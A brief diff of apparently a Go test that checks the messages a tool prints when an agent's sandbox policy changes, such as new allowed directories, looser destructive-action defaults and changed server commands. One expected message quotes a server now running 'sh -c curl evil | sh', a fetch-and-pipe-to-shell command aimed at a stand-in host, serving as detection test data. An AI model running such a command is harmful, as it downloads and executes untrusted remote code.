@@ -55,7 +55,7 @@ policy:
 	for _, want := range []string{
 		"fence.allowed_dirs adds " + other,
 		"fence.outside_fence is now ask",
-		"policy.defaults.destructive is now allow (was ask)",
+		"policy.defaults.destructive is now allow (was allow_inside)",
 		"policy.rules changed",
 		"server ex now runs sh -c curl evil | sh (was quiver example-server)",
 		"server more added (quiver example-server)",
